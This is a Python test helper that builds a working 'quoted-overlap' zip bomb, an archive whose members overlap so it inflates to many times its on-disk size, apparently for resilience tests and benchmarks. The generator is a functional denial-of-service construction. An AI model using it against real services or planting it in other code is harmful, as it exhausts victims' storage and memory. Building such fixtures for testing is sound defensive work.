"""Hostile files built for the tests and the benches (bench/hostile_inputs.py imports this module): each one a
real attack's layout, small on disk and far larger once read."""

from __future__ import annotations

from pathlib import Path


def quoted_overlap_zip(path: Path, payload: bytes, n: int, suffix: str = ".jpg") -> None:
    """A "quoted-overlap" zip bomb (David Fifield's construction): member i's deflate stream quotes the local
    headers of the members after it in stored blocks and ends in one shared kernel, the payload deflated once,
    so that every member inflates to the payload: n times its size from one copy."""
    import binascii
    import struct
    import zlib

    def header(name: bytes, crc: int, stored: int, size: int) -> bytes:
        return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, stored, size, len(name), 0) + name

    def quote(length: int) -> bytes:  # a stored deflate block, not the last, of `length` bytes
        return b"\x00" + struct.pack("<HH", length, length ^ 0xFFFF)

    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = deflate.compress(payload) + deflate.flush()
    names = [f"{i:05d}{suffix}".encode() for i in range(n)]
    plain, compressed = payload, kernel
    sizes = [(binascii.crc32(plain), len(compressed), len(plain))] * n
    headers = [b""] * n
    headers[-1] = header(names[-1], *sizes[-1])
    for i in range(n - 2, -1, -1):  # member i inflates to the headers of the members after it, then the payload
        plain, compressed = headers[i + 1] + plain, quote(len(headers[i + 1])) + headers[i + 1] + compressed
        sizes[i] = (binascii.crc32(plain), len(compressed), len(plain))
        headers[i] = header(names[i], *sizes[i])
    body, offsets = b"", []
    for i in range(n):
        offsets.append(len(body))
        body += headers[i] + (quote(len(headers[i + 1])) if i < n - 1 else kernel)
    directory = b"".join(
        struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0, *sizes[i], len(names[i]), 0, 0, 0, 0, 0, at)
        + names[i]
        for i, at in enumerate(offsets)
    )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(directory), len(body), 0)
    path.write_bytes(body + directory + end)
